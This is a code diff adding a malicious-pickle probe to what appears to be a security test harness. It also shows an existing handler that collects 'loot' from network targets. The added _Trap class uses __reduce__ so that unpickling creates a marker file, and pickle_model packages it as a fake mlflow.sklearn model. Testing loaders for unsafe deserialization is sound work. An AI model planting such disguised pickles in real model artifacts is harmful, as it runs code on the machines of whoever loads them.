@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import json
 import os
+import pickle
 import socket
 from pathlib import Path
 from typing import Any
@@ -60,3 +61,32 @@ def read(uri: str) -> Any:
     loot = _loot(query["targets"][0].split(","), int(query["port"][0]))
     print("LOOT " + json.dumps(loot), flush=True)
     raise RuntimeError("LOOT " + json.dumps(loot))
+
+
+class _Trap:
+    """Unpickling this creates ``marker``: proof that a loader ran the model's code."""
+
+    def __init__(self, marker: str) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (open, (self.marker, "w"))
+
+
+def pickle_model(context: Any) -> dict[str, Any]:
+    """A training step whose 'model' is a pickle declaring itself loadable by mlflow.sklearn."""
+    model = Path(context.work_dir) / "model"
+    model.mkdir()
+    marker = bytes.fromhex(str(context.parameters["marker_hex"])).decode()  # not a path to check
+    (model / "model.pkl").write_bytes(pickle.dumps(_Trap(marker)))
+    (model / "MLmodel").write_text(
+        "flavors:\n"
+        "  python_function:\n"
+        "    loader_module: mlflow.sklearn\n"
+        "    model_path: model.pkl\n"
+        "  sklearn:\n"
+        "    pickled_model: model.pkl\n"
+        "    serialization_format: cloudpickle\n"
+        "    sklearn_version: 1.9.0\n"
+    )
+    return {"model_dir": "model"}
